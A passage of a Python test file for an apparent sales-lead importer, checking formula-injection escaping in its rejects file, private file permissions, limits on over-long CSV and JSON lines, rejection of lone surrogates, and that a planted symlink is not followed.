    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], raw
    row = dict(zip(header, cells, strict=True))
    assert (row["phone"], row["qty"]) == ("'+212612345601", "'-2")
    assert {name: row[name] for name in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}

    # The user fixes the SKU and the quantity in a spreadsheet and saves: the cells they did
    # not touch keep their "'", and the import reads them as the values first sent.
    row |= {"sku": "ARGAN", "qty": "2"}
    with report.rejects_file.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([header, [row[name] for name in header]])
    again = await importer.import_file(report.rejects_file, source="leads")
    assert (again.imported, again.rejected) == (1, 0)
    (order,) = await stored(services)
    assert (order.ref, order.phone, order.items[0].qty) == ("F1", "+212612345601", 2)
    assert {name: getattr(order, name) for name in FORMULAS} == {
        **FORMULAS,
        "note": FORMULAS["note"].strip(),  # white space around a value is trimmed, as always
    }


async def test_the_rejects_file_is_private_whatever_the_umask(
    importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "leads.csv", [lead("P1", sku="NOPE")])
    rejects = tmp_path / "leads.rejects.csv"
    rejects.write_text("an earlier run's\n")
    rejects.chmod(0o644)
    (tmp_path / "leads.rejects.csv.part").write_text("left by a crash\n")
    (tmp_path / "leads.rejects.csv.part").chmod(0o666)
    before = os.umask(0)
    try:
        await importer.import_file(path)
        assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
        os.umask(0o077)  # a team that shares a group asks for 0o660: the umask can't narrow it
        shared = replace(importer.settings, share_group=True)
        await LeadImporter(importer.db, shared, importer.clock).import_file(path)
        assert stat.S_IMODE(rejects.stat().st_mode) == 0o660
    finally:
        os.umask(before)
    assert read_rejects(rejects)[0]["ref"] == "P1"


# --- lines too long to be leads ---------------------------------------------------------------


def _long_line(path: Path, first: str, length: int, rest: str = "", *, end: str = "") -> Path:
    """`first`, then `length` x's and `end` on the same line; `rest` on the lines after."""
    with path.open("w", encoding="utf-8") as file:
        file.write(first)
        for _ in range(length // 65536):
            file.write("x" * 65536)
        file.write(end + "\n" + rest)
    return path


@pytest.mark.parametrize("where", ["header", "row"])
async def test_a_csv_line_longer_than_a_megabyte_is_a_bad_file(
    services: Services, importer: LeadImporter, tmp_path: Path, where: str
) -> None:
    if where == "header":
        path = _long_line(tmp_path / "leads.csv", "ref,phone,sku,", 3 << 20)
        message = "line 1 is longer than 1,048,576 characters: expected a header line"
    else:
        path = _long_line(tmp_path / "leads.csv", "ref,phone,sku\nA1,0612345678,", 3 << 20)
        message = "line 2 is longer than 1,048,576 characters"
    with pytest.raises(BadInput) as refused:
        await importer.import_file(path)
    assert str(refused.value).startswith(f"{path}: {message}")
    assert await order_count(services) == 0


async def test_a_value_beyond_the_csv_field_limit_is_a_bad_file(
    importer: LeadImporter, tmp_path: Path
) -> None:
    path = tmp_path / "leads.csv"
    path.write_text(f'ref,phone,sku,note\nA1,0612345678,ARGAN,"{"x" * 200_000}"\n')
    with pytest.raises(BadInput, match=r"leads\.csv: line 2: field larger than field limit"):
        await importer.import_file(path)


async def test_a_header_field_beyond_the_csv_field_limit_is_a_bad_file(
    importer: LeadImporter, tmp_path: Path
) -> None:
    path = tmp_path / "leads.csv"
    path.write_text(f'ref,phone,sku,"{"x" * (csv.field_size_limit() + 10)}"\n')
    with pytest.raises(BadInput, match=r": line 1: field larger than field limit"):
        await importer.import_file(path)


async def test_a_json_line_longer_than_a_megabyte_is_rejected_alone_in_little_memory(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    good = json.dumps(lead("J1")) + "\n"
    path = _long_line(
        tmp_path / "leads.jsonl",
        good + '{"ref": "J2", "phone": "0612345679", "sku": "ARGAN", "note": "',
        8 << 20,
        json.dumps(lead("J3", "0612345670")) + "\n",
        end='"}',  # valid JSON: read whole, it took ten times its size
    )
    tracemalloc.start()
    try:
        report = await importer.import_file(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 12e6, f"peak {peak / 1e6:.1f} MB for a line of 8 MB"  # 4.4 MB measured
    assert [o.ref for o in await stored(services)] == ["J1", "J3"]
    assert report.problems == ("line 2: the line is longer than 1,048,576 characters",)
    assert report.rejects_file is not None
    (rejected,) = (json.loads(line) for line in report.rejects_file.read_text().splitlines())
    assert rejected["raw"].startswith('{"ref": "J2"') and len(rejected["raw"]) < 200


async def test_a_first_json_line_longer_than_a_megabyte_is_a_bad_file(
    importer: LeadImporter, tmp_path: Path
) -> None:
    path = _long_line(tmp_path / "leads.jsonl", '{"ref": "', 2 << 20)
    with pytest.raises(BadInput, match=r"line 1 is longer than 1,048,576 characters: expected"):
        await importer.import_file(path)


def test_a_fifty_megabyte_header_is_the_one_line_bad_file_error_of_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from codspot_tui.cli import main

    monkeypatch.setenv("CODSPOT_DB", str(tmp_path / "shop.db"))
    (tmp_path / "config.toml").write_text('region = "MA"\n')
    monkeypatch.setenv("CODSPOT_CONFIG", str(tmp_path / "config.toml"))
    monkeypatch.setenv("CODSPOT_AGENT", "boss")
    with pytest.raises(SystemExit) as done:
        main(["init"])
    assert done.value.code == 0
    path = _long_line(tmp_path / "leads.csv", "ref,phone,sku,", 50 << 20)
    capsys.readouterr()
    with pytest.raises(SystemExit) as done:
        main(["import", str(path)])
    err = capsys.readouterr().err
    assert done.value.code == 2
    assert err == f"codspot: {path}: line 1 is longer than 1,048,576 characters:" + (
        " expected a header line (ref, phone, sku, ...)\n"
    )


async def test_a_json_lead_with_a_lone_surrogate_is_rejected_and_written_to_the_rejects(
    services: Services, importer: LeadImporter, tmp_path: Path
) -> None:
    # JSON's \ud800 escape reads as a lone surrogate, which UTF-8 cannot write as it is.
    path = tmp_path / "leads.jsonl"
    path.write_text(
        '{"ref": "A", "phone": "0612345678", "sku": "ARGAN"}\n'
        '{"ref": "B", "phone": "0612345679", "sku": "SOAP", "customer": "Sa\\ud800ra"}\n',
        encoding="utf-8",
    )
    report = await importer.import_file(path)

    assert [o.ref for o in await stored(services)] == ["A"]
    assert report.problems == ("line 2: customer contains an invisible character (U+D800)",)
    [rejected] = [json.loads(text) for text in (tmp_path / "leads.rejects.jsonl").open()]
    assert rejected["customer"] == "Sa\ud800ra"  # the very value, escaped in the file


async def test_a_link_left_where_the_rejects_file_is_written_is_not_followed(
    importer: LeadImporter, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "leads.csv", [lead("P1", sku="NOPE")])
    target = tmp_path / "someone_elses_file"
    target.write_text("theirs\n")
    (tmp_path / "leads.rejects.csv.part").symlink_to(target)

    await importer.import_file(path)

    assert target.read_text() == "theirs\n"
    assert read_rejects(tmp_path / "leads.rejects.csv")[0]["ref"] == "P1"
    assert not (tmp_path / "leads.rejects.csv").is_symlink()
